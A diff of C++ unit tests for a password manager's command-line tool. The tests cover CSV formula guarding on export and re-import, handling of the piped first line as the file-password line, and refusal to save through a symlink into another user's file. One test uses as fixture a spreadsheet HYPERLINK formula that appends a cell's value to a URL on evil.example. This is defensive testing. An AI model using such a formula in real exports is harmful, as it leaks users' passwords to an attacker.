@@ -277,6 +277,32 @@ TEST(CliWrite, CsvWithQuotesCommasAndLineBreaksRoundTrips) {
     EXPECT_TRUE(rows[11].startsWith("cr only,\"cr\ronly\""));
 }
 
+// A site name that a spreadsheet runs as a formula goes out guarded in a CSV export, and an import of that
+// export gives back the same bytes; JSON, which no spreadsheet runs, keeps it as it is.
+TEST(CliWrite, FormulasInACsvExportAreGuardedAndComeBackAsTheyWere) {
+    QTemporaryDir dir;
+    const QString strDb = dir.filePath(QStringLiteral("sites.lwd"));
+    const QString strFormula = QStringLiteral("=HYPERLINK(\"https://evil.example/?p=\"&D2,\"Verify\")");
+    ASSERT_EQ(RunCli({QStringLiteral("create"), strDb}, "pw\n").nExit, 0);
+    ASSERT_EQ(RunCli({QStringLiteral("add"), strDb, strFormula, QStringLiteral("--user=@me")}, "pw\n-secret\n").nExit,
+              0);
+    const CCliResult csv = RunCli({QStringLiteral("export"), strDb}, "pw\n");
+    ASSERT_EQ(csv.nExit, 0) << csv.err.constData();
+    EXPECT_EQ(csv.out, "site,url,user,password,notes\r\n"
+                       "\"'=HYPERLINK(\"\"https://evil.example/?p=\"\"&D2,\"\"Verify\"\")\",,'@me,'-secret,\r\n");
+    const CCliResult json = RunCli({QStringLiteral("export"), strDb, QStringLiteral("--format=json")}, "pw\n");
+    EXPECT_TRUE(json.out.contains("\"user\": \"@me\", \"password\": \"-secret\"")) << json.out.constData();
+
+    const QString strCsv = dir.filePath(QStringLiteral("export.csv"));
+    WriteFile(strCsv, csv.out);
+    const QString strCopy = dir.filePath(QStringLiteral("copy.lwd"));
+    ASSERT_EQ(RunCli({QStringLiteral("create"), strCopy}, "pw\n").nExit, 0);
+    ASSERT_EQ(RunCli({QStringLiteral("import"), strCopy, strCsv}, "pw\n").nExit, 0);
+    EXPECT_EQ(RunCli({QStringLiteral("export"), strCopy}, "pw\n").out, csv.out);
+    const CCliResult shown = RunCli({QStringLiteral("show"), strCopy, strFormula, QStringLiteral("--reveal")}, "pw\n");
+    EXPECT_EQ(shown.out, "Site:  " + strFormula.toUtf8() + "\nURL:  \nUser:  @me\nPswd:  -secret\n");
+}
+
 TEST(CliWrite, ImportIsAllOrNothingAndNamesTheLine) {
     QTemporaryDir dir;
     const QString strDb = CopyOfFixture(dir, kFixture);
@@ -312,6 +338,65 @@ TEST(CliWrite, ImportIsAllOrNothingAndNamesTheLine) {
         RunCli({QStringLiteral("import"), strDb, dir.filePath(QStringLiteral("none.csv"))}, "fixture\n");
     EXPECT_EQ(missing.nExit, 1);
     EXPECT_TRUE(missing.err.contains("none.csv: No such file or directory")) << missing.err.constData();
+}
+
+// Without a terminal the first line is the file password's line even for a file that has none: a script
+// that gives the password of its usual file to one without would otherwise store it as the site's.
+TEST(CliWrite, TheFirstPipedLineIsTheFilePasswordsLineEvenWithoutOne) {
+    QTemporaryDir dir;
+    const QString strDb = dir.filePath(QStringLiteral("team.lwd"));
+    ASSERT_EQ(RunCli({QStringLiteral("create"), strDb}, "\n").nExit, 0);
+    ASSERT_EQ(RunCli({QStringLiteral("add"), strDb, QStringLiteral("old")}, "\nOldSitePw\n").nExit, 0);
+    const QByteArray before = ReadFile(strDb);
+    const QByteArray refusal = "lockwarden-cli: " + QFile::encodeName(strDb) +
+                               " has no file password, but the first line of standard input gave one; nothing was "
+                               "changed.\n";
+    const QStringList commands[] = {
+        {QStringLiteral("add"), strDb, QStringLiteral("mail")},
+        {QStringLiteral("edit"), strDb, QStringLiteral("old"), QStringLiteral("--password")},
+        {QStringLiteral("passwd"), strDb},
+        {QStringLiteral("seal"), strDb},
+        {QStringLiteral("rm"), strDb, QStringLiteral("old")},
+        {QStringLiteral("list"), strDb},
+        {QStringLiteral("show"), strDb, QStringLiteral("old"), QStringLiteral("--reveal")},
+        {QStringLiteral("export"), strDb},
+    };
+    for (const QStringList& args : commands) {
+        SCOPED_TRACE(args.first().toStdString());
+        const CCliResult r = RunCli(args, "TeamPw-7\nNewSitePw\n");
+        EXPECT_EQ(r.nExit, 2);
+        EXPECT_EQ(r.err, refusal);
+        EXPECT_TRUE(r.out.isEmpty()) << r.out.constData();
+        EXPECT_EQ(ReadFile(strDb), before);
+    }
+
+    // An empty first line, or none at all where nothing else is read, is the file's lack of a password.
+    const CCliResult added = RunCli({QStringLiteral("add"), strDb, QStringLiteral("mail")}, "\nNewSitePw\n");
+    ASSERT_EQ(added.nExit, 0) << added.err.constData();
+    EXPECT_EQ(ExportRows(strDb, "\n"), (QList<QByteArray>{"old,,,OldSitePw,", "mail,,,NewSitePw,"}));
+    const CCliResult listed = RunCli({QStringLiteral("list"), strDb});
+    EXPECT_EQ(listed.nExit, 0) << listed.err.constData();
+    EXPECT_EQ(listed.out, "mail\nold\n");
+}
+
+// The database replaced by a link to another user's writable file: the save never writes into it, and says
+// whose it is. (As root the other user is nobody: root owns nothing of anybody else's either.)
+TEST(CliWrite, ASaveNeverWritesAnotherUsersFileThroughALink) {
+    QTemporaryDir dir;
+    const QString strTheirs = dir.filePath(QStringLiteral("theirs.lwd"));
+    ASSERT_EQ(RunCli({QStringLiteral("create"), strTheirs}, "\n").nExit, 0);
+    if (::chown(QFile::encodeName(strTheirs).constData(), 65534, 65534) != 0)
+        GTEST_SKIP() << "needs root to make a file of another owner";
+    ASSERT_EQ(::chmod(QFile::encodeName(strTheirs).constData(), 0666), 0);
+    const QByteArray before = ReadFile(strTheirs);
+    const QString strDb = dir.filePath(QStringLiteral("team.lwd"));
+    ASSERT_EQ(::symlink(QFile::encodeName(strTheirs).constData(), QFile::encodeName(strDb).constData()), 0);
+
+    const CCliResult r = RunCli({QStringLiteral("add"), strDb, QStringLiteral("mail")}, "\nNewSitePw\n");
+    EXPECT_EQ(r.nExit, 1);
+    EXPECT_TRUE(r.err.contains("This file belongs to another user (nobody); it was not written.")) << r.err.constData();
+    EXPECT_EQ(ReadFile(strTheirs), before);
+    EXPECT_TRUE(QFileInfo(strDb).isSymLink());
 }
 
 // A folder that takes no new files (a shared one) while the file itself is writable: no temporary file can
